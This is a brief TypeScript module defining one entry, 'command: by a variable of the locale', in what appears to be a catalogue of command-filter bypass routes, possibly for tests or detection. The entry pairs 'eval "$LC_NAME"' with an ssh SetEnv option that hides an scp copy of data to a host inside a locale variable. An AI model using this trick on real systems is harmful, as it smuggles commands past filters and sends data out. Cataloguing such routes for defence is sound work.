import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by a variable of the locale',
  source: 'what the environment may carry',
  words: ['eval "$LC_NAME"'],
  options: ['-o', 'SetEnv="LC_NAME=scp DATA host:"'],
};
